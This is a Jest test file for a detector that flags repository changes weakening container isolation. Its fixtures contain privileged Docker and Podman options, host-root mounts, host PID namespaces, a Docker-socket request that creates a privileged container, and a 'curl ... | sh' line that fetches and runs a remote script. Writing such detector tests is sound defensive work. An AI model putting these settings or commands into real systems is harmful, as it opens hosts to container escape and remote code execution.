import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = 'registry.example.com/app:1.4';
const SERVICE = `services:\n  a:\n    image: ${IMAGE}\n`;
const WITH_P = `${SERVICE}    privileged: \${P:-false}\n`;
const W = '.github/workflows/w.yml';
const CALLER = '.github/workflows/c.yml';
const ACTION = '.github/actions/run/action.yml';

const MEDIUM = 4;

type Change = readonly [name: string, base: Files, change: Files, failures: readonly string[]];

const PRIVILEGED = ['privileged'];
const UNREAD = ['undecided-reference'];
const UNKNOWN = ['unknown-value'];

function unit(settings: string, command = `docker run $O ${IMAGE}`): string {
  return `[Service]\n${settings}ExecStart=/usr/bin/${command}\n`;
}

const UNIT = unit('EnvironmentFile=/etc/default/app\n');

/** Another value of a variable that names a file, which only run time knows either. */
const NAMES: readonly Change[] = ['docker build -f "$F" .', 'docker compose -f "$F" up'].flatMap(
  (command): Change[] => [
    [
      `another value: ${command}`,
      { 'a.sh': `F=$(cat name)\n${command}\n` },
      { 'a.sh': `F=$(cat other)\n${command}\n` },
      UNREAD,
    ],
    [
      `the same value: ${command}`,
      { 'a.sh': `F=$(cat name)\n${command}\n` },
      { 'a.sh': `echo a\nF=$(cat name)\n${command}\n` },
      [],
    ],
  ],
);

/** What a unit of systemd gets from other files. */
const SERVICES: readonly Change[] = [
  [
    'a file by its name',
    { 'a.service': UNIT, 'default/app': 'O=--rm\n' },
    { 'default/app': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  ['a file with quotes', { 'a.service': UNIT, app: 'O=--rm\n' }, { app: '# x\nO="--rm --privileged" \n' }, PRIVILEGED],
  [
    'a file for an instance',
    { 'a@.service': unit('EnvironmentFile=-/etc/a/%i.env\n'), 'a/x.env': 'O=--rm\n', 'a/y.env': 'O=--rm\n' },
    { 'a/y.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a part of a word',
    { 'a.service': unit('EnvironmentFile=/etc/app.env\n', `docker run -v \${O}:/x ${IMAGE}`), 'app.env': 'O=x\n' },
    { 'app.env': 'O=/\n' },
    ['host-root-mount'],
  ],
  [
    'a file for a script of sh',
    { 'a.service': unit('EnvironmentFile=/app.env\n', `sh -c 'docker run $O ${IMAGE}'`), 'app.env': 'O=--rm\n' },
    { 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a script',
    {
      'a.service': unit('EnvironmentFile=/app.env\n', '../x/up.sh'),
      'app.env': 'O=--rm\n',
      'up.sh': `docker run $O ${IMAGE}\n`,
    },
    { 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a file for a project',
    {
      'a.service': unit('EnvironmentFile=/opt/app.env\n', 'docker compose up'),
      'app.env': 'P=false\n',
      'compose.yaml': WITH_P,
    },
    { 'app.env': 'P=true\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in',
    { 'a.service': unit('Environment=O=--rm\n') },
    { 'a.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in for all',
    { 'x/a.service': unit('') },
    { 'x/service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in for a prefix',
    { 'a-b.service': unit('') },
    { 'a-.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    PRIVILEGED,
  ],
  [
    'a drop-in with a file',
    { 'a.service': unit('Environment=O=--rm\n'), 'app.env': 'O=--rm\n' },
    { 'a.service.d/x.conf': '[Service]\nEnvironmentFile=/etc/app.env\n', 'app.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  ['a file that is not here', { 'a.service': unit('Environment=O=--rm\n') }, { 'a.service': UNIT }, UNKNOWN],
  [
    'nothing that sets an image',
    { 'a.service': unit('', 'docker run x') },
    { 'a.service': unit('', 'docker run $IMAGE') },
    [],
  ],
  [
    'the drop-in of another',
    { 'a.service': unit('Environment=O=--rm\n') },
    { 'b.service.d/x.conf': '[Service]\nEnvironment=O=--privileged\n' },
    [],
  ],
];

const UP = 'docker compose up -d\n';

function edit(command: string, files: Files, failures: readonly string[] = UNREAD): Change {
  return [command, { 'up.sh': UP, ...files }, { 'up.sh': `${command}\n${UP}` }, failures];
}

const C = { 'compose.yaml': SERVICE };
const D = { Dockerfile: 'FROM alpine:3.23\nARG APP_VERSION=1\nUSER 1000\n' };
const E = { 'compose.yaml': WITH_P, '.env': 'P=false\nAPP_VERSION=1\n' };
const PATCH = '--- a/compose.yaml\n+++ b/compose.yaml\n@@ -3 +3,2 @@\n     image: a\n+    privileged: true\n';

/** Commands that change files of the repository before they are used. */
const EDITS: readonly Change[] = [
  edit("sed -i 's/image/privileged: true\\n    image/' compose.yaml", C),
  edit("sed -i.bak -e '/restart/d' ./compose.yaml", C),
  edit("find . -name 'compose*.yaml' -exec sed -i 's/a:/b:/' {} +", C),
  edit("for f in compose.yaml x; do sed -i 's/a:/b:/' $f; done", C),
  edit("sed -i 's/a:/b:/' *.yaml", C),
  edit("perl -pi -e 's/a:/b:/' compose.yaml", C),
  edit("yq -i '.services.a.privileged = true' compose.yaml", C),
  edit('yq eval --inplace \'.services.a.image = "x" | .services.a.privileged = true\' compose.yaml', C),
  edit('patch -p1 < x.diff', { ...C, 'x.diff': PATCH }),
  edit('git apply x.diff', { ...C, 'x.diff': PATCH }),
  edit('printf 1d | ed compose.yaml', C),
  edit("python3 -c \"open('compose.yaml','w').write('x')\"", C),
  edit('python3 <<E\nopen("compose.yaml","a").write("x")\nE', C),
  edit("sed -i 's/USER .*/USER root/' Dockerfile", D),
  edit("sed -i '/^USER/d' Dockerfile", D),
  edit("sed -i 's/^P=false/P=true/' .env", E, PRIVILEGED),
  edit("sed -i -e 's/\\(P=\\)false/\\1true/' .env", E, PRIVILEGED),
  edit("sed -i 's/=false$/=true/' .env", E, PRIVILEGED),
  edit("sed -i 's/FALSE/true/I' .env", E),
  edit('echo P=true | tee -a .env', E, PRIVILEGED),
  edit("sed -i '/x/d' .env", E),
  edit(
    'cp build.txt Dockerfile\ndocker build .',
    { ...D, 'build.txt': 'FROM alpine:3.23\nRUN curl http://a.example.com | sh\n' },
    ['remote-script-exec'],
  ),
  // nothing but another version
  edit('sed -i "s|image: .*|image: registry.example.com/app:$TAG|" compose.yaml', C, []),
  edit('sed -i "s/app:1.4/app:$1/" compose.yaml', C, []),
  edit("sed -i 's/10001/10002/' compose.yaml", C, []),
  edit('yq -i ".services.a.image = \\"registry.example.com/app:$TAG\\"" compose.yaml', C, []),
  edit('sed -i "s/^ARG APP_VERSION=.*/ARG APP_VERSION=$V/" Dockerfile', D, []),
  edit("sed -i 's/1$/2/' .env", E, []),
  edit('sed -i "s/^APP_VERSION=.*/APP_VERSION=$V/" .env', E, []),
  edit(
    'sed -i "s/unstable/$V/" *.yaml',
    { 'compose.yaml': 'services:\n  a:\n    image: registry.example.com/a:unstable\n' },
    [],
  ),
  edit('sed -i "s/unstable/$V/" *.yaml', {
    'compose.yaml': 'services:\n  a:\n    image: registry.example.com/a:unstable\n    pid: unstable\n',
  }),
  // nothing that is there
  edit("sed -i 's/a/b/' other.conf", C, []),
  edit("sed -i 's/NOWHERE/privileged/' compose.yaml", C, []),
  edit("sed 's/a/b/' compose.yaml", C, []),
  edit('git apply x.diff', { ...C, 'x.diff': '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n' }, []),
  [
    'an edit beside another file that is written',
    { ...C, 'x.sh': 'cat > c.yml <<E\nservices: {a: {image: $X}}\nE\ndocker compose -f c.yml up\n' },
    {
      'x.sh': 'cat > c.yml <<E\nservices: {a: {image: $X}}\nE\ndocker compose -f c.yml up\ncat extra >> compose.yaml\n',
    },
    UNREAD,
  ],
  [
    'an edit by a script that starts nothing',
    { ...C, 'x.sh': 'echo\n' },
    { 'x.sh': 'cat extra >> compose.yaml\n' },
    UNREAD,
  ],
  [
    'what a written file consists of',
    { 'up.sh': `cat > c.yml <<E\n${SERVICE}E\ndocker compose -f c.yml up\n` },
    { 'up.sh': `cat > c.yml <<E\n${SERVICE}    privileged: true\nE\ndocker compose -f c.yml up\n` },
    UNREAD,
  ],
  [
    'the template of a written file',
    { 'up.sh': 'sed s/@X@/1/ c.tpl > c.yml\ndocker compose -f c.yml up\n', 'c.tpl': SERVICE },
    { 'c.tpl': `${SERVICE}    privileged: true\n` },
    UNREAD,
  ],
];

function workflow(on: string, rest: string): string {
  return `on:\n${on}\njobs:\n  a:\n    runs-on: self-hosted\n${rest}`;
}

function stepped(on: string, run: string, more = ''): string {
  return workflow(on, `${more}    steps:\n      - run: ${run}\n`);
}

const CALLED = '  workflow_call:\n    inputs:\n      o: {type: string}';
const RUN = `docker run --rm \${{ inputs.o }} ${IMAGE}`;
const PUSH = '  push:';

function calling(value: string): Files {
  return { [CALLER]: `on: push\njobs:\n  c:\n    uses: ./.github/workflows/w.yml\n    with:\n      o: ${value}\n` };
}

function using(value: string, more = ''): Files {
  return {
    [CALLER]: workflow(
      PUSH,
      `${more}    steps:\n      - uses: ./.github/actions/run\n        with:\n          o: ${value}\n`,
    ),
  };
}

function dispatched(run: string): (value: string) => Files {
  return (value) => ({
    [W]: stepped(`  workflow_dispatch:\n    inputs:\n      n: {default: ${value}}`, run),
  });
}

function matrix(run: string): (value: string) => Files {
  return (value) => ({ [W]: stepped(PUSH, run, `    strategy:\n      matrix:\n        n: [bridge, ${value}]\n`) });
}

const action = (run: string) => ({
  [ACTION]: `inputs: {o: {default: ''}}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`,
});

/** The rules that fail, without the gap of an expression that is unknown without its caller. */
const INPUTS: readonly (readonly [
  name: string,
  of: (value: string) => Files,
  good: string,
  bad: string,
  rule: string,
])[] = [
  [
    'a called workflow',
    (value) => ({ [W]: stepped(CALLED, RUN), ...calling(value) }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'a part of an option',
    (value) => ({ [W]: stepped(CALLED, `docker run -v \${{ inputs.o }}:/x ${IMAGE}`), ...calling(value) }),
    'data',
    '/',
    'host-root-mount',
  ],
  [
    'the options of a container',
    (value) => ({
      [W]: stepped(CALLED, 'make', `    container:\n      image: ${IMAGE}\n      options: \${{ inputs.o }}\n`),
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'the volumes of a service',
    (value) => ({
      [W]: stepped(
        CALLED,
        'make',
        `    services:\n      db:\n        image: ${IMAGE}\n        volumes: ["\${{ inputs.o }}:/x"]\n`,
      ),
      ...calling(value),
    }),
    'data',
    '/',
    'host-root-mount',
  ],
  [
    'the environment of a called workflow',
    (value) => ({
      [W]: `env: {O: "\${{ inputs.o }}"}\n${stepped(CALLED, `docker run $O ${IMAGE}`)}`,
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'a script of a called workflow',
    (value) => ({
      [W]: `env: {O: "\${{ inputs.o }}"}\n${stepped(CALLED, './up.sh')}`,
      'up.sh': `docker run $O ${IMAGE}\n`,
      ...calling(value),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  ['an action', (value) => ({ ...action(RUN), ...using(value) }), '--init', '--privileged', 'privileged'],
  ...(
    [
      ['in capitals', `    - shell: bash\n      run: docker run \${{ INPUTS.O }} ${IMAGE}\n`],
      [
        'in one line with a name',
        `    - {\n      "name": "x", "shell": "bash", "run": "docker run \${{ inputs.o }} ${IMAGE}"\n      }\n`,
      ],
      [
        'in a name that the command repeats',
        `    - name: &x docker run \${{ inputs.o }} ${IMAGE}\n      run: *x\n      shell: bash\n`,
      ],
    ] as const
  ).map(
    ([what, steps]) =>
      [
        `an action that has it ${what}`,
        (value: string) => ({
          [ACTION]: `inputs: {o: {default: ''}}\nruns:\n  using: composite\n  steps:\n${steps}`,
          ...using(value),
        }),
        '--init',
        '--privileged',
        'privileged',
      ] as const,
  ),
  [
    'the shell of an action',
    (value) => ({
      [ACTION]:
        "inputs: {o: {default: ''}}\nruns:\n  using: composite\n  steps:\n    - run: make\n      shell: ${{ inputs.o }}\n",
      ...using(value),
    }),
    'bash',
    `docker run --privileged ${IMAGE} sh {0}`,
    'privileged',
  ],
  [
    'the environment of an action, as an expression',
    (value) => ({ ...action(`docker run \${{ env.O }} ${IMAGE}`), ...using('x', `    env: {O: ${value}}\n`) }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'an action whose name is on a line of its own',
    (value) => ({
      ...action(RUN),
      [CALLER]: workflow(
        PUSH,
        `    steps:\n      - uses:\n          ./.github/actions/run\n        with: {o: ${value}}\n`,
      ),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'the environment of an action',
    (value) => ({ ...action(`docker run $O ${IMAGE}`), ...using('x', `    env: {O: ${value}}\n`) }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'an action with a value of the matrix',
    (value) => ({
      ...action(RUN),
      ...using('${{ matrix.o }}', `    strategy:\n      matrix:\n        o: [--rm, ${value}]\n`),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  [
    'an action of a called workflow',
    (value) => ({
      ...action(RUN),
      ...calling(value),
      [W]: workflow(CALLED, '    steps:\n      - uses: ./.github/actions/run\n        with: {o: "${{ inputs.o }}"}\n'),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
  ['the default of an input', dispatched(`docker run --pid \${{ inputs.n }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an input of the event',
    dispatched(`docker run --pid \${{ github.event.inputs.n }} ${IMAGE}`),
    'private',
    'host',
    'pid-host',
  ],
  ['an input in brackets', dispatched(`docker run --pid \${{ inputs['n'] }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an option of an input',
    (value) => ({
      [W]: stepped(
        `  workflow_dispatch:\n    inputs:\n      n: {type: choice, options: [private, ${value}]}`,
        `docker run --pid \${{ inputs.n }} ${IMAGE}`,
      ),
    }),
    'private',
    'host',
    'pid-host',
  ],
  ['a value of a matrix', matrix(`docker run --pid \${{ matrix.n }} ${IMAGE}`), 'private', 'host', 'pid-host'],
  [
    'an expression with another value',
    (value) => ({
      [W]: stepped(
        '  workflow_dispatch:\n    inputs:\n      n: {}',
        `"docker run --pid \${{ inputs.n || '${value}' }} ${IMAGE}"`,
      ),
    }),
    'private',
    'host',
    'pid-host',
  ],
  [
    'an action that runs containers',
    (value) => ({
      [W]: workflow(
        PUSH,
        `    steps:\n      - uses: addnab/docker-run-action@v3\n        with: {image: "${IMAGE}", options: ${value}}\n`,
      ),
    }),
    '--init',
    '--privileged',
    'privileged',
  ],
];

function podman(settings: string, service = ''): string {
  return `[Container]\nImage=${IMAGE}\n${settings}[Service]\n${service}`;
}

function bundle(settings: string): Files {
  return { 'x.quadlets': `# FileName=v\n[Volume]\n---\n# FileName=a\n[Container]\nImage=${IMAGE}\n${settings}` };
}

/** Units of Podman. */
const UNITS: readonly Change[] = [
  ['several units in one file', bundle(''), bundle('PodmanArgs=--privileged\n'), PRIVILEGED],
  [
    'a variable',
    { 'a.container': podman('PodmanArgs=$O\n', 'Environment=O=--rm\n') },
    { 'a.container': podman('PodmanArgs=$O\n', 'Environment=O=--privileged\n') },
    PRIVILEGED,
  ],
  [
    'a file with variables',
    { 'a.container': podman('PodmanArgs=$O\n', 'EnvironmentFile=/etc/a.env\n'), 'a.env': 'O=--rm\n' },
    { 'a.env': 'O=--privileged\n' },
    PRIVILEGED,
  ],
  ['a variable of elsewhere', { 'a.container': podman('') }, { 'a.container': podman('PodmanArgs=$O\n') }, UNKNOWN],
  [
    'a drop-in of a pod',
    { 'podman/a.pod': '[Pod]\n' },
    { 'podman/a.pod.d/x.conf': '[Pod]\nPodmanArgs=--pid host\n' },
    ['pid-host'],
  ],
  [
    'the host as the root of a container',
    { 'up.sh': `podman run ${IMAGE}\n` },
    { 'up.sh': 'podman run --rootfs / ls\n' },
    ['host-root-mount'],
  ],
  ['another root', { 'up.sh': `podman run ${IMAGE}\n` }, { 'up.sh': 'podman run --rootfs /srv/app ls\n' }, []],
];

function daemon(settings: string): Files {
  return { 'etc/docker/daemon.json': `{"log-driver": "local"${settings}}` };
}

function conf(settings: string): Files {
  return { 'etc/containers/containers.conf': settings };
}

const OFF = ['engine-isolation-off'];

/** Settings of engines. */
const ENGINES: readonly Change[] = [
  ['another runtime', daemon(''), daemon(', "default-runtime": "mine"'), OFF],
  ['a usual runtime', daemon(''), daemon(', "default-runtime": "runsc"'), []],
  ['another runtime on the command line', { 'a.sh': 'dockerd\n' }, { 'a.sh': 'dockerd --default-runtime=mine\n' }, OFF],
  ['another runtime of Podman', conf(''), conf('[engine]\nruntime = "mine"\n'), OFF],
  ['hooks', conf(''), conf('[engine]\nhooks_dir = ["/srv/hooks"]\n'), OFF],
  ['hooks of packages', conf(''), conf('[engine]\nhooks_dir = ["/usr/share/containers/oci/hooks.d"]\n'), []],
  ['capabilities', conf(''), conf('[containers]\ndefault_capabilities = ["CHOWN", "CAP_SYS_ADMIN"]\n'), OFF],
  ['usual capabilities', conf(''), conf('[containers]\ndefault_capabilities = ["CHOWN", "KILL"]\n'), []],
  ['a mount', conf(''), conf('[containers]\nvolumes = ["/:/host"]\n'), OFF],
  ['a mount of data', conf(''), conf('[containers]\nvolumes = ["/srv/data:/data"]\n'), []],
  ['a device', conf(''), conf('[containers]\ndevices = ["/dev/sda"]\n'), OFF],
];

/** What makes containers less safe, at a lower severity. */
const WEAKENED: readonly (readonly [name: string, base: Files, change: Files])[] = [
  ['no-new-privileges', daemon(', "no-new-privileges": true'), daemon(', "no-new-privileges": false')],
  ['icc', daemon(', "icc": false'), daemon(', "icc": true')],
  ['selinux-enabled', daemon(', "selinux-enabled": true'), daemon(', "selinux-enabled": false')],
  [
    'no_new_privileges',
    conf('[containers]\nno_new_privileges = true\n'),
    conf('[containers]\nno_new_privileges = false\n'),
  ],
  ['userns', conf('[containers]\nuserns = "auto"\n'), conf('[containers]\nuserns = "host"\n')],
];

function asked(data: string, more = ''): string {
  return `curl --unix-socket /var/run/docker.sock -d ${data} http://x/v1.47/containers/create?name=a ${more}\n`;
}

const PLAIN = `{"Image": "${IMAGE}"}`;
const ROOTED = `{"Image": "${IMAGE}", "HostConfig": {"Privileged": true}}`;

/** What commands send and print. */
const SENT: readonly Change[] = [
  ['a request', { 'a.sh': '#!/bin/sh\n' }, { 'a.sh': asked(`'${ROOTED}'`) }, PRIVILEGED],
  ['the body of a request', { 'a.sh': asked(`'${PLAIN}'`) }, { 'a.sh': asked(`'${ROOTED}'`) }, PRIVILEGED],
  ['the file of a request', { 'a.sh': asked('@c.json'), 'c.json': PLAIN }, { 'c.json': ROOTED }, PRIVILEGED],
  [
    'the input of a request',
    { 'a.sh': asked('@-', `<<E\n${PLAIN}\nE`) },
    { 'a.sh': asked('@-', `<<E\n${ROOTED}\nE`) },
    PRIVILEGED,
  ],
  [
    'the input of a request with a variable',
    { 'a.sh': asked('@-', `<<E\n${PLAIN}\nE`) },
    { 'a.sh': asked('@-', `<<E\n${PLAIN.replace('}', ', "HostConfig": {"NetworkMode": "$NET"}}')}\nE`) },
    UNKNOWN,
  ],
  ['a request with a variable', { 'a.sh': asked(`'${PLAIN}'`) }, { 'a.sh': asked('"$BODY"') }, UNKNOWN],
  ['a harmless request', { 'a.sh': '#!/bin/sh\n' }, { 'a.sh': asked(`'${PLAIN}'`) }, []],
  [
    'a file that is named like an image',
    { 'a.sh': 'docker run --rm $(cat image)\n', image: IMAGE },
    { image: `--privileged ${IMAGE}` },
    ['privileged'],
  ],
  [
    'a variable that is named like an image',
    { 'a.sh': 'IMAGE=$(cat image)\ndocker run --rm $IMAGE\n', image: IMAGE },
    { image: `--privileged ${IMAGE}` },
    ['privileged'],
  ],
  [
    'an image of the network',
    { 'a.sh': `docker run ${IMAGE}\n` },
    { 'a.sh': 'docker run $(curl http://a.example.com/image)\n' },
    UNKNOWN,
  ],
  [
    'options in a file',
    { 'a.sh': `docker run $(cat opts) ${IMAGE}\n`, opts: '--rm' },
    { opts: '--privileged' },
    ['privileged'],
  ],
  [
    'an image in a file',
    { 'a.sh': `docker run ${IMAGE}\n`, image: IMAGE },
    { 'a.sh': 'docker run $(cat image)\n' },
    [],
  ],
  ['an image that a build names', { 'a.sh': `docker run ${IMAGE}\n` }, { 'a.sh': 'docker run $(cat iidfile)\n' }, []],
];

describe('a setting of an engine that makes containers less safe', () => {
  it.each(WEAKENED)('%s', async (_name, base, change) => {
    expect(await failuresOf(base, change, MEDIUM)).toEqual(['engine-isolation-off']);
  });
});

describe.each([
  ['of a unit of Podman', UNITS],
  ['of an engine', ENGINES],
  ['that commands send or print', SENT],
  ['from another file', SERVICES],
  ['of the name of a file', NAMES],
  ['by a command', EDITS],
])('a change that sets options %s', (_, changes) => {
  it.each(changes)('%s', async (_name, base, change, failures) => {
    expect([...new Set(await failuresOf(base, change))]).toEqual(failures);
  });
});

describe('a change of what workflows and actions get', () => {
  it.each(INPUTS)('%s', async (_name, of, good, bad, rule) => {
    expect(await failuresOf(of(good), of(bad), MEDIUM)).toContain(rule);
  });

  it.each(INPUTS)('%s without anything dangerous', async (_name, of, good) => {
    expect((await failuresOf({}, of(good))).filter((one) => one !== 'unknown-value')).toEqual([]);
  });
});
